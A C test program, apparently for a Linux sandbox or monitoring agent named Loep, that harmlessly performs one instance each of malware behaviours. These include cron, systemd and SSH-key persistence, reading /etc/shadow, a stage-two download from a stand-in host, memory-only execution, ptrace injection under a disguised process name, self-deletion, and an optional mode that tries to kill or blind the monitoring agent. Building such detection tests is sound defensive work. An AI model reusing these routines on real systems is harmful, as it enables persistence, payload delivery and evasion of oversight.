/* SPDX-License-Identifier: Apache-2.0 */
/*
 * activity - a harmless program that does, once each, what samples do.
 *
 * Built static and run only inside a guest, by the tests and by the
 * demonstration. Everything it writes names itself as a test.
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define RESOLVER "10.77.0.1"
#define HOST	 "update.example.com"

static void
put_file(const char *path, const char *text, mode_t mode)
{
	int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, mode);

	if (fd == -1)
		return;
	(void)!write(fd, text, strlen(text));
	(void)close(fd);
}

static void
run_shell(const char *line)
{
	pid_t pid = fork();

	if (pid == 0) {
		(void)execl("/bin/sh", "sh", "-c", line, (char *)NULL);
		_exit(127);
	}
	(void)waitpid(pid, NULL, 0);
}

static void
persistence(void)
{
	put_file("/etc/cron.d/loep-test",
	    "*/5 * * * * root /usr/local/bin/loep-test\n", 0644);
	put_file("/etc/systemd/system/loep-test.service",
	    "[Service]\nExecStart=/usr/local/bin/loep-test\n", 0644);
	(void)mkdir("/root/.ssh", 0700);
	put_file("/root/.ssh/authorized_keys", "ssh-ed25519 AAAA test\n", 0600);
	put_file("/usr/local/bin/loep-test", "#!/bin/sh\necho test\n", 0644);
	(void)chmod("/usr/local/bin/loep-test", 0755);
	(void)chown("/usr/local/bin/loep-test", 1000, 1000);
	(void)symlink("/etc/passwd", "/root/loep-link");
	(void)link("/etc/cron.d/loep-test", "/etc/cron.d/loep-test2");
}

static void
files(void)
{
	(void)close(open("/etc/shadow", O_RDONLY | O_CLOEXEC));
	put_file("/tmp/loep-secret", "deleted before the end\n", 0600);
	(void)unlink("/tmp/loep-secret");
	put_file("/var/tmp/loep-before", "renamed\n", 0600);
	(void)rename("/var/tmp/loep-before", "/var/tmp/loep-after");
	(void)mkdir("/tmp/loep-dir", 0755);
	(void)rmdir("/tmp/loep-dir");
	(void)mkfifo("/tmp/loep-fifo", 0600);
	(void)truncate("/var/tmp/loep-after", 4);
}

/* A question for HOST, made by hand: no resolver in a static program. */
static uint32_t
resolve(void)
{
	uint8_t msg[512] = {0x4c, 0x70, 1, 0, 0, 1}, *p = msg + 12;
	struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(53)};
	const struct timeval wait = {.tv_sec = 2};
	const char *label = HOST;
	uint32_t address = htonl(0xc6336401); /* 198.51.100.1 */
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);
	ssize_t n;

	while (*label != '\0') {
		size_t size = strcspn(label, ".");

		*p++ = (uint8_t)size;
		memcpy(p, label, size);
		p += size;
		label += size + (label[size] == '.');
	}
	memcpy(p, "\0\0\1\0\1", 5);
	p += 5;
	(void)inet_pton(AF_INET, RESOLVER, &sa.sin_addr);
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
	(void)sendto(fd, msg, (size_t)(p - msg), 0,
	    (const struct sockaddr *)&sa, sizeof(sa));
	/* The last four bytes of an answer with one A record. */
	n = recv(fd, msg, sizeof(msg), 0);
	if (n > 16 && msg[7] != 0)
		memcpy(&address, msg + n - 4, 4);
	(void)close(fd);
	return address;
}

static void
fetch(uint32_t address)
{
	static const char request[] = "GET /stage2.bin HTTP/1.1\r\nHost: " HOST
				      "\r\nUser-Agent: loep-test\r\n"
				      "Connection: close\r\n\r\n";
	struct sockaddr_in sa = {.sin_family = AF_INET,
	    .sin_port = htons(80),
	    .sin_addr.s_addr = address};
	const struct timeval wait = {.tv_sec = 2};
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	char answer[4096];
	ssize_t n;
	int out;

	(void)setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &wait, sizeof(wait));
	(void)setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof(wait));
	if (connect(fd, (const struct sockaddr *)&sa, sizeof(sa)) == 0 &&
	    write(fd, request, sizeof(request) - 1) > 0) {
		out = open("/tmp/stage2.bin",
		    O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0600);
		while ((n = read(fd, answer, sizeof(answer))) > 0)
			(void)!write(out, answer, (size_t)n);
		(void)close(out);
	}
	(void)close(fd);
}

static void
serve(void)
{
	struct sockaddr_in sa = {
	    .sin_family = AF_INET, .sin_port = htons(4444)};
	int one = 1, fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int to = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), got;

	(void)setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(fd, (const struct sockaddr *)&sa, sizeof(sa)) == 0 &&
	    listen(fd, 1) == 0) {
		sa.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		(void)connect(to, (const struct sockaddr *)&sa, sizeof(sa));
		got = accept(fd, NULL, NULL);
		(void)close(got);
	}
	(void)close(to);
	(void)close(fd);
	fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
	(void)close(fd);
}

/* Run a copy of /bin/true that exists in memory only. */
static void
from_memory(void)
{
	int in = open("/bin/true", O_RDONLY | O_CLOEXEC);
	int fd = memfd_create("loep-memory", MFD_CLOEXEC);
	char *const argv[] = {(char[]){"in-memory"}, NULL};
	char *const env[] = {NULL};
	char buf[65536];
	ssize_t n;
	pid_t pid;

	while ((n = read(in, buf, sizeof(buf))) > 0)
		(void)!write(fd, buf, (size_t)n);
	(void)close(in);
	pid = fork();
	if (pid == 0) {
		(void)fexecve(fd, argv, env);
		_exit(127);
	}
	(void)waitpid(pid, NULL, 0);
	(void)close(fd);
}

static void
memory(void)
{
	void *p = mmap(NULL, 8192, PROT_READ | PROT_WRITE | PROT_EXEC,
	    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	void *q = mmap(NULL, 4096, PROT_READ | PROT_WRITE,
	    MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

	(void)mprotect(q, 4096, PROT_READ | PROT_EXEC);
	(void)munmap(p, 8192);
	(void)munmap(q, 4096);
}

static void
inject(pid_t pid)
{
	static char text[8] = "changed", target[8];
	const struct iovec from = {text, sizeof(text)};
	const struct iovec to = {target, sizeof(target)};

	(void)process_vm_writev(pid, &from, 1, &to, 1, 0);
	if (ptrace(PTRACE_ATTACH, pid, NULL, NULL) == 0) {
		(void)waitpid(pid, NULL, 0);
		(void)ptrace(PTRACE_DETACH, pid, NULL, NULL);
	}
}

static void
victims(void)
{
	pid_t pid = fork();

	if (pid == 0) {
		(void)prctl(PR_SET_NAME, "kworker/u8:3");
		for (;;)
			(void)pause();
	}
	(void)usleep(50000);
	inject(pid);
	(void)kill(pid, SIGTERM);
	(void)waitpid(pid, NULL, 0);
}

static void
privileges(void)
{
	static char no_module[256] = "no module";
	pid_t pid = fork();

	if (pid == 0) {
		(void)unshare(CLONE_NEWNS);
		(void)mkdir("/tmp/loep-mount", 0700);
		(void)mount("none", "/tmp/loep-mount", "tmpfs", 0, NULL);
		(void)umount("/tmp/loep-mount");
		(void)syscall(
		    SYS_init_module, no_module, sizeof(no_module), "");
		(void)setgid(1000);
		(void)setuid(1000);
		_exit(0);
	}
	(void)waitpid(pid, NULL, 0);
}

static pid_t
find_process(const char *name)
{
	DIR *dir = opendir("/proc");
	struct dirent *entry;
	pid_t found = -1;

	while (dir != NULL && found == -1 && (entry = readdir(dir)) != NULL) {
		char path[300], comm[32] = "";
		int fd;

		(void)snprintf(
		    path, sizeof(path), "/proc/%s/comm", entry->d_name);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd == -1)
			continue;
		(void)!read(fd, comm, sizeof(comm) - 1);
		(void)close(fd);
		comm[strcspn(comm, "\n")] = '\0';
		if (strcmp(comm, name) == 0)
			found = (pid_t)strtol(entry->d_name, NULL, 10);
	}
	if (dir != NULL)
		(void)closedir(dir);
	return found;
}

/* What a sample would try against whoever watches it. */
static void
attack_agent(void)
{
	union bpf_attr attr;
	pid_t pid = find_process("loep-agent");

	put_file("/proc/sys/kernel/ftrace_enabled", "0\n", 0644);
	put_file("/proc/sysrq-trigger", "i", 0600);
	printf("agent pid %d\n", (int)pid);
	printf("kill %d\n", kill(pid, SIGKILL));
	printf("stop %d\n", kill(pid, SIGSTOP));
	printf("attach %ld\n", ptrace(PTRACE_ATTACH, pid, NULL, NULL));
	memset(&attr, 0, sizeof(attr));
	printf("map %ld\n",
	    syscall(SYS_bpf, BPF_MAP_GET_NEXT_ID, &attr, sizeof(attr)));
	attr.map_id = attr.next_id;
	printf("open %ld\n",
	    syscall(SYS_bpf, BPF_MAP_GET_FD_BY_ID, &attr, sizeof(attr)));
}

int
main(int argc, char *argv[])
{
	/* It changes the system it runs on: never outside of a guest. */
	if (access("/usr/sbin/loep-agent", X_OK) != 0) {
		(void)fprintf(stderr, "this is not a guest of Loep\n");
		return 2;
	}
	printf("activity begins with %d arguments\n", argc - 1);
	(void)fprintf(stderr, "error output\n");
	run_shell("echo child of activity; exit 4");
	persistence();
	files();
	fetch(resolve());
	serve();
	memory();
	from_memory();
	victims();
	privileges();
	if (argc > 1 && strcmp(argv[1], "attack") == 0)
		attack_agent();
	(void)unlink(argv[0]);
	printf("activity ends\n");
	return 7;
}
